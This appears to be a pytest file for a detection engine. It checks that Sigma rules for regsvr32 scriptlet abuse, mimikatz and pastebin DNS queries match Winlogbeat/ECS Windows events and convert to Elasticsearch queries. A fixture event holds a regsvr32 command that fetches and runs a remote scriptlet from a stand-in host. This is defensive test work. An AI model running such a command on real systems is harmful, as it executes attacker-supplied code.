"""ECS stacks (`ecs_windows`, `ecs_windows_old`) on Winlogbeat-shaped Windows events.

SigmaHQ's Windows rules mostly name a log-source category only (`process_creation`); the ECS
pipelines map field names and scope service rules by `winlog.channel`, so category-only rules
used to be skipped ("log source not mapped to a Channel") and the Lucene conversion wanted a
field literally named `channel`. Both now run: streaming and as Elasticsearch queries.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from detection.lucene_raw import convert_raw, index_template, normalise_event
from detection.service import load_rules
from tests.services import unique_name

PROCESS_RULE = """
title: Regsvr32 loads a scriptlet
id: aaaaaaaa-0000-0000-0000-000000000001
status: test
level: high
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\\\\regsvr32.exe'
    CommandLine|contains: scrobj
  condition: selection
"""
SERVICE_RULE = """
title: Mimikatz in the Application log
id: aaaaaaaa-0000-0000-0000-000000000002
status: test
level: high
logsource: {product: windows, service: application}
detection:
  selection:
    winlog.event_data.Data|contains: mimikatz
  condition: selection
"""
DNS_RULE = """
title: DNS query for a paste site
id: aaaaaaaa-0000-0000-0000-000000000003
status: test
level: medium
logsource: {category: dns_query, product: windows}
detection:
  selection:
    QueryName|endswith: pastebin.com
  condition: selection
"""
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _winlogbeat(channel: str, event_id: int, **ecs: Any) -> dict[str, Any]:
    """A Winlogbeat 7+ event: `winlog.*` plus the ECS fields its modules fill."""
    event = {"winlog": {"channel": channel, "event_id": event_id}, "event": {"code": str(event_id)}}
    event.update(ecs)
    return event


REGSVR32 = {
    "executable": "C:\\Windows\\System32\\regsvr32.exe",
    "command_line": "regsvr32 /s /u /i:http://x/a.sct scrobj.dll",
}
EVENTS = [
    _winlogbeat(SYSMON, 1, process=REGSVR32),  # 0: Sysmon process creation
    _winlogbeat("Security", 4688, process=REGSVR32),  # 1: Security process creation
    _winlogbeat("Security", 4689, process=REGSVR32),  # 2: process exit: not a creation
    _winlogbeat("Application", 1, process=REGSVR32),  # 3: another log's event id 1
    _winlogbeat("Application", 1000, winlog={"channel": "Application", "event_id": 1000}),
    _winlogbeat(SYSMON, 22, dns={"question": {"name": "Pastebin.com"}}),  # 5: DNS query
    _winlogbeat("Security", 4688, dns={"question": {"name": "pastebin.com"}}),  # 6: not DNS
]
EVENTS[4]["winlog"]["event_data"] = {"Data": "mimikatz.exe crashed"}
EXPECTED = {
    "aaaaaaaa-0000-0000-0000-000000000001": {0, 1},
    "aaaaaaaa-0000-0000-0000-000000000002": {4},
    "aaaaaaaa-0000-0000-0000-000000000003": {5},
}


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    for name, text in (("p.yml", PROCESS_RULE), ("s.yml", SERVICE_RULE), ("d.yml", DNS_RULE)):
        (tmp_path / name).write_text(text, encoding="utf-8")
    return tmp_path


def test_category_rules_run_on_sysmon_and_security_events(rules: Path) -> None:
    ruleset = load_rules(paths=[rules], stacks=["ecs_windows"])
    assert ruleset.skipped == []
    found: dict[str, set[int]] = {}
    for match in ruleset.match_batch(EVENTS):
        found.setdefault(match.rule_id, set()).add(match.event_index)
    assert found == EXPECTED


def test_ecs_windows_old_runs_category_rules_on_event_data(tmp_path: Path) -> None:
    """Winlogbeat up to 6, as pySigma maps it: raw names under `event_data`, id in `event_id`."""
    (tmp_path / "p.yml").write_text(PROCESS_RULE, encoding="utf-8")
    ruleset = load_rules(paths=[tmp_path], stacks=["ecs_windows_old"])
    assert ruleset.skipped == []
    data = {"Image": REGSVR32["executable"], "CommandLine": REGSVR32["command_line"]}
    old = [
        {"winlog": {"channel": SYSMON}, "event_id": 1, "event_data": data},
        {"winlog": {"channel": "Security"}, "event_id": 4688, "event_data": data},
        {"winlog": {"channel": "Security"}, "event_id": 4689, "event_data": data},
    ]
    assert [m.event_index for m in ruleset.match_batch(old)] == [0, 1]


def test_lucene_scope_accepts_winlog_channel(rules: Path) -> None:
    queries, failed = convert_raw(paths=[rules], stacks=["ecs_windows"])
    assert failed == []
    assert {q.rule_id for q in queries} == set(EXPECTED)
    assert all("winlog.channel" in q.query for q in queries)


def test_lucene_queries_find_the_same_ecs_events_in_elasticsearch(rules: Path, es_url: str) -> None:
    from elasticsearch import Elasticsearch

    queries, _ = convert_raw(paths=[rules], stacks=["ecs_windows"])
    client = Elasticsearch(es_url, request_timeout=60)
    index = unique_name("ecs-windows-")
    client.indices.put_index_template(name=index, **index_template(pattern=index))
    try:
        for number, event in enumerate(EVENTS):
            client.index(index=index, id=str(number), document=normalise_event(event))
        client.indices.refresh(index=index)
        found: dict[str, set[int]] = {}
        for query in queries:
            body = {"query_string": {"query": query.query, "default_field": "*"}}
            hits = client.search(index=index, query=body, size=100)["hits"]["hits"]
            found.setdefault(query.rule_id, set()).update(int(hit["_id"]) for hit in hits)
        assert found == EXPECTED
    finally:
        client.indices.delete(index=index, ignore_unavailable=True)
        client.indices.delete_index_template(name=index)
        client.close()
